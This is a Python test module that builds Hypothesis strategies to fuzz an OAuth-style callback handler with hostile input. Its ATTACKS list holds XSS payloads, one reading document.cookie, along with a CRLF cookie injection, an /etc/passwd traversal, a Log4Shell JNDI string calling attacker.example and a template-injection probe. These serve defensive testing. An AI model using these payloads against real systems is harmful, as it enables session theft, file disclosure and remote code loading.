"""Hypothesis strategies for hostile input, and the settings every property here uses."""

from __future__ import annotations

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st


def examples(n: int) -> settings:
    """Moto is slow: few examples per property, no deadline, fixtures shared across examples.

    In CI the examples are derandomized, so a red run can be reproduced; runs elsewhere explore.
    """
    return settings(
        max_examples=n,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
        derandomize=os.environ.get("CI") == "true",
    )


ATTACKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "\r\nSet-Cookie: session=stolen",
    "../../../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "%3Cscript%3E",
    "\x00",
    "\u202e\u0645",
    "access_denied",
    "server_error",
]

# Percent-decoded bytes that are not UTF-8: API Gateway hands them on replaced or, in a raw
# runtime, as lone surrogates.
non_utf8 = st.binary(min_size=1, max_size=48).flatmap(
    lambda raw: st.sampled_from([raw.decode("utf-8", "replace"), raw.decode("utf-8", "surrogateescape")])
)
huge = st.builds(lambda unit, n: unit * n, st.sampled_from(["A", "<script>", "é", "%"]), st.integers(1000, 12000))
hostile_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(ATTACKS),
    non_utf8,
    huge,
    st.from_regex(r"[A-Za-z0-9_-]{43}", fullmatch=True),  # shaped like a state, but forged
    st.from_regex(r"[\x21-\x7e]{1,40}", fullmatch=True),  # shaped like a code
)
